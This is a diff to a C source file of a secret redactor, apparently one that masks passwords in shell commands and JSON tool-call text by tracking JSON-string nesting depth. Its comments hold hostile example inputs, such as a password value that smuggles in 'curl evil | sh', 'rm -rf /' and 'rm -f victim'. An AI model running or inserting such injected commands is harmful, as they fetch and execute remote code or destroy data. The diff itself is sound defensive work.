@@ -58,11 +58,12 @@
 #define ESCAPE "\\\\[^\\n\\r]"
 /* Unquoted, a backslash is taken with what it escapes, as the shell reads
  * it (tried as an attacker would: PGPASSWORD=\Secr3t was stored as
- * written, bash's value is Secr3t):
+ * written, bash's value is Secr3t); in a JSON string (BARE_ESCAPE_SHELL
+ * outside one, BARE_ESCAPE_NESTED in one held in one):
  *  - before a space or a sign, not one of Unicode's spaces (which ends the
  *    value) nor " or a backslash (below);
  *  - before a letter or a digit, but not n r t b f u U: \n, \t and \u0041
- *    are a JSON string's escapes far more often than a value's;
+ *    are the JSON string's own escapes;
  *  - doubled, \\\\ (a JSON string's spelling of the shell's \\), or \\ before
  *    a value's character or a line continuation.  Never before a quote or another escape (\\\",
  *    \\', \\ and \n in a JSON string): the mask would take the backslash
@@ -75,6 +76,16 @@
 #define BARE_ESCAPE \
   "(?:\\\\(?!" USPACE ")[^\\n\\rA-Za-z0-9\\t\"\\\\]|\\\\(?![nrtbfuU])[A-Za-z0-9]" \
   "|\\\\\\\\\\\\\\\\|\\\\\\\\(?=" VALUE_CHARS "|\\\\\\r?\\n))"
+/* Outside a JSON string (depth 0 of pd-redact-private.h) the shell's
+ * reading only: a backslash and any character but a quote, a blank or a
+ * line break (PGPASSWORD=Q\w\e\rty is Qwerty, \\ a backslash).  The
+ * patterns are compiled once with each (get_regex()). */
+#define BARE_ESCAPE_SHELL "(?:\\\\(?!" USPACE ")[^\\n\\r\\t\"])"
+/* In a JSON string held in one (depth 2) the shell's backslash is four:
+ * \\\\ before a value's character, and \\\\\\\\ (the shell's \\)
+ * whole; never \\\\ alone, whose character a mask would leave bare. */
+#define BS4 "\\\\\\\\\\\\\\\\"
+#define BARE_ESCAPE_NESTED "(?:" BS4 BS4 "|" BS4 "(?=" VALUE_CHARS "))"
 /* A quoted value, up to its closing quote: in '…' everything is literal
  * text, backslashes too; in "…" and bash's $'…' an escaped quote does not
  * close it.  Quotes escaped themselves (\"…\" inside a JSON string) hold a
@@ -110,6 +121,11 @@
 /* The short options curl takes without an argument, which may stand
  * grouped before its -u or -U: curl -fsSu user:PASSWORD. */
 #define CURL_FLAGS "0123456#BfGgIiJjkLlMNnOpqRSsvZ"
+
+/* A backslash the shell drops after a glued -p (-p\\PASSWORD), not a JSON
+ * string's \\n, \\t, \\u…; outside one any (-pTr\\n is -pTrn). */
+#define GLUED_ESCAPE "\\\\(?![nrtbfu])(?=[A-Za-z0-9])"
+#define GLUED_ESCAPE_SHELL "\\\\(?=[A-Za-z0-9])"
 
 /* The schemes of an Authorization header. */
 #define AUTH_SCHEMES "(?i:basic|bearer|token|digest|negotiate|ntlm|apikey|key|sso-key|aws4-hmac-sha256)"
@@ -200,7 +216,7 @@ static const char * const patterns[N_RE] = {
   /* MySQL's (and sshpass's) -pPASSWORD, glued or quoted: -p'a b',
    * -p$'a b', after grouped flags: -vpPASSWORD, after a backslash the
    * shell drops: -p\PASSWORD (not \n, \t, \u…: a JSON string's). */
-  [RE_GLUED] = "-[" GROUPED_FLAGS "]{0,16}+p=?+(?:\\\\(?![nrtbfu])(?=[A-Za-z0-9]))?+" WORD_VALUE,
+  [RE_GLUED] = "-[" GROUPED_FLAGS "]{0,16}+p=?+(?:" GLUED_ESCAPE ")?+" WORD_VALUE,
   /* sshpass's -p PASSWORD, redis-cli's -a PASSWORD and --pass PASSWORD,
    * the MongoDB tools' -p PASSWORD, OpenLDAP's -w PASSWORD, sqlcmd's and
    * bcp's -P PASSWORD. */
@@ -238,36 +254,45 @@ static const char * const patterns[N_RE] = {
 };
 
 /* The pattern @which, compiled once, and the numbers of its groups "s"
- * and "v" (-1 when it has none). */
+ * and "v" (-1 when it has none): as read at @depth in JSON strings, 0 as
+ * the shell reads it (BARE_ESCAPE_SHELL, GLUED_ESCAPE_SHELL), 2 with
+ * BARE_ESCAPE_NESTED. */
 static GRegex *
-get_regex (guint  which,
-           int   *s_group,
-           int   *v_group)
+get_regex (guint     which,
+           guint     depth,
+           int      *s_group,
+           int      *v_group)
 {
   static gsize once = 0;
-  static GRegex *regexes[N_RE];
+  static GRegex *regexes[3][N_RE];
   static int s_groups[N_RE], v_groups[N_RE];
 
   if (g_once_init_enter (&once))
     {
-      for (guint i = 0; i < N_RE; i++)
+      for (guint i = 0; i < 3 * N_RE; i++)
         {
           g_autoptr(GError) error = NULL;
+          g_autoptr(GString) pattern = g_string_new (patterns[i % N_RE]);
+          GRegex **regex = &regexes[i / N_RE][i % N_RE];
 
+          if (i / N_RE != 1)
+            g_string_replace (pattern, BARE_ESCAPE, i < N_RE ? BARE_ESCAPE_SHELL : BARE_ESCAPE_NESTED, 0);
+          if (i < N_RE)
+            g_string_replace (pattern, GLUED_ESCAPE, GLUED_ESCAPE_SHELL, 0);
           /* Anchored when compiled: PCRE2's JIT does not take the
            * anchoring as a match option, and falls back to its (much
            * slower) interpreter then. */
-          regexes[i] = g_regex_new (patterns[i], G_REGEX_OPTIMIZE | G_REGEX_RAW | G_REGEX_ANCHORED, 0, &error);
+          *regex = g_regex_new (pattern->str, G_REGEX_OPTIMIZE | G_REGEX_RAW | G_REGEX_ANCHORED, 0, &error);
           /* The patterns are constants: failing to compile is a bug, not input. */
           g_assert_no_error (error);
-          s_groups[i] = g_regex_get_string_number (regexes[i], "s");
-          v_groups[i] = g_regex_get_string_number (regexes[i], "v");
+          s_groups[i % N_RE] = g_regex_get_string_number (*regex, "s");
+          v_groups[i % N_RE] = g_regex_get_string_number (*regex, "v");
         }
       g_once_init_leave (&once, 1);
     }
   *s_group = s_groups[which];
   *v_group = v_groups[which];
-  return regexes[which];
+  return regexes[MIN (depth, 2)][which];
 }
 
 /* ---------------------------------------------------------------------- */
@@ -284,6 +309,7 @@ typedef struct
   gsize       tick_pos; /* backticks_before() counted the line up to here */
   guint       ticks;    /* and found this many backticks on it */
   PdRedactCommandLine line; /* the command line read forward (pd-redact-commands.c) */
+  guint8     *depths;   /* in JSON strings (pd-redact-private.h; NULL: none) */
   gsize       name_start;   /* where the name or option of the value tried starts */
   gsize       refused_from; /* a value redact_span() refused starts here (G_MAXSIZE: none) */
   gsize       refused_end;  /* inside [.., refused_end) only known token shapes are tried */
@@ -353,10 +379,12 @@ escaped_quote_open (Redactor *r,
  * quote at a line break (raw, or a JSON string's \n or \u000a) or a sign
  * that ends a command (raw, or spelled \u003b…): the shell's value goes
  * on across it, "a\nrm -rf /", whatever the reading took.  Opened by an
- * escaped quote, the value is read to its closing quote too: the shell's
- * \"x is the sign and ends at a blank, but inside a JSON string \"x … \"
- * is a quoted value, and may hold what the shell runs
- * (PGPASSWORD=\"x && curl evil | sh\" in a tool call's JSON text). */
+ * escaped quote that is the shell's quote in a JSON string, the value is
+ * read to its closing quote too: \"x … \" there is a quoted value, and
+ * may hold what the shell runs (PGPASSWORD=\"x && curl evil | sh\" in a
+ * tool call's JSON text).  Outside one the shell's \"x is the sign and
+ * ends at a blank (PGPASSWORD=\"Secr3t rm -f victim\" was kept whole;
+ * tried as an attacker would). */
 static gboolean
 quoted_value_stops_short (Redactor *r,
                           gsize     vs,
@@ -364,18 +392,19 @@ quoted_value_stops_short (Redactor *r,
 {
   const char *t = r->text;
   gsize open = escaped_quote_open (r, vs);
+  guint depth;
 
-  if (open > 0)
+  if (open > 0 && _pd_redact_value_quoting (t, r->depths, open, &depth) == QUOTING_DOUBLE)
     for (gsize e = ve; e < r->len && e - open <= 256 && t[e] != '\n' && t[e] != '\r'; e++)
       if (e > ve && t[e] == t[open - 1] && t[e - 1] == '\\')
         {
-          if (_pd_redact_value_hides_syntax (t + open, e - 1 - open))
+          if (_pd_redact_value_hides_syntax (t + open, e - 1 - open, QUOTING_DOUBLE, depth))
             return TRUE;
           break;
         }
   if (vs == 0 || ve >= r->len || (t[vs - 1] != '"' && t[vs - 1] != '\''))
     return FALSE;
-  return _pd_redact_syntax_at (t + ve, t + r->len);
+  return _pd_redact_syntax_at (t + ve, t + r->len, _pd_redact_depth_at (r->depths, ve));
 }
 
 /* Replaces [start, end) with the mask: a known token's shape, or a value
@@ -419,13 +448,16 @@ redact_span (Redactor *r,
              gsize     start,
              gsize     end)
 {
+  guint depth;
+  PdRedactQuoting quoting = _pd_redact_value_quoting (r->text, r->depths, start, &depth);
+
   /* A value that holds a mask already is what an earlier redaction left:
    * masked again it changed a second redaction (a quoted part of 256 bytes
    * at most fits once masks inside it made the text shorter; found by
    * fuzz-redact). */
   if (end > start
-      && (_pd_redact_value_hides_syntax (r->text + start, end - start) || quote_closes_name_word (r, start)
-          || quoted_value_stops_short (r, start, end)
+      && (_pd_redact_value_hides_syntax (r->text + start, end - start, quoting, depth)
+          || quote_closes_name_word (r, start) || quoted_value_stops_short (r, start, end)
           || g_strstr_len (r->text + start, end - start, PD_REDACTED) != NULL))
     {
       r->refused_from = start;
@@ -450,7 +482,7 @@ redact_span (Redactor *r,
       if (n > 0)
         {
           piece = end + n;
-          if (_pd_redact_joined_word (t, r->len, piece, &piece_end) == 0)
+          if (_pd_redact_joined_word (t, r->len, piece, _pd_redact_depth_at (r->depths, piece), &piece_end) == 0)
             break;
         }
       else
@@ -463,10 +495,10 @@ redact_span (Redactor *r,
             n = 3;
           piece = end + n;
           if (n == 0 || (first && quote_closes_name_word (r, piece))
-              || (piece_end = _pd_redact_unquoted_end (t, r->len, piece)) == piece)
+              || (piece_end = _pd_redact_unquoted_end (t, r->len, piece, _pd_redact_depth_at (r->depths, piece))) == piece)
             break;
         }
-      if (_pd_redact_value_hides_syntax (t + piece, piece_end - piece)
+      if (_pd_redact_value_hides_syntax (t + piece, piece_end - piece, QUOTING_NONE, _pd_redact_depth_at (r->depths, piece))
           || g_strstr_len (t + piece, piece_end - piece, PD_REDACTED) != NULL)
         break;
       {
@@ -612,7 +644,7 @@ match_at (Redactor *r,
           gsize    *ve)
 {
   int s_group, v_group;
-  GRegex *regex = get_regex (which, &s_group, &v_group);
+  GRegex *regex = get_regex (which, _pd_redact_depth_at (r->depths, pos), &s_group, &v_group);
   g_autoptr(GMatchInfo) info = NULL;
   int start = -1, end = -1;
   int s = -1, s_end = -1;
@@ -631,7 +663,7 @@ match_at (Redactor *r,
     {
       gsize word_end;
 
-      if (_pd_redact_joined_word (r->text, r->len, (gsize) s, &word_end) >= 2)
+      if (_pd_redact_joined_word (r->text, r->len, (gsize) s, _pd_redact_depth_at (r->depths, (gsize) s), &word_end) >= 2)
         {
           r->joined = TRUE;
           *vs = (gsize) s;
@@ -961,30 +993,6 @@ curl_user_option_at (Redactor *r,
          && (_pd_redact_password_options_at (&r->line, r->text, i) & PW_GLUED_U) != 0;
 }
 
-/* openssl's pass phrase options at @p (-passin, -passout, -pass, with
- * one dash or two) and the blanks or the '=' after them: their length,
- * or 0. */
-static gsize
-passphrase_option_len (const char *p)
-{
-  gsize n = p[1] == '-' ? 2 : 1;
-
-  if (strncmp (p + n, "pass", 4) != 0)
-    return 0;
-  n += 4;
-  if (strncmp (p + n, "in", 2) == 0)
-    n += 2;
-  else if (strncmp (p + n, "out", 3) == 0)
-    n += 3;
-  if (p[n] == '=')
-    return n + 1;
-  if (p[n] != ' ' && p[n] != '\t')
-    return 0;
-  while (p[n] == ' ' || p[n] == '\t')
-    n++;
-  return n;
-}
-
 /* A pass phrase argument that says where the pass phrase is, not what:
  * env:VAR, file:PATH, fd:N, stdin (quoted or not).  Its length, or 0. */
 static gsize
@@ -1057,7 +1065,7 @@ try_at (Redactor *r,
         redact_span (r, vs, ve);
       return ve;
     }
-  if (*p == '-' && word_start && (n = passphrase_option_len (p)) > 0)
+  if (*p == '-' && word_start && (n = _pd_redact_passphrase_option_len (p)) > 0)
     {
       gsize source;
 
@@ -1143,7 +1151,9 @@ _pd_redact_counting (const char *text,
   r.text = without_keys ? without_keys : text;
   r.len = strlen (r.text);
   r.refused_from = G_MAXSIZE;
+  r.depths = _pd_redact_json_depths (r.text, r.len);
   _pd_redact_command_line_init (&r.line);
+  r.line.depths = r.depths;
   for (gsize i = 0; i < r.len; )
     {
       guchar c = (guchar) r.text[i];
@@ -1176,6 +1186,7 @@ _pd_redact_counting (const char *text,
     *n_redacted = known_count + pem_count + r.count;
   if (line_bytes)
     *line_bytes = r.line.bytes_read;
+  g_free (r.depths);
   if (r.out == NULL)
     return g_strdup (r.text);
   g_string_append_len (r.out, r.text + r.copied, r.len - r.copied);
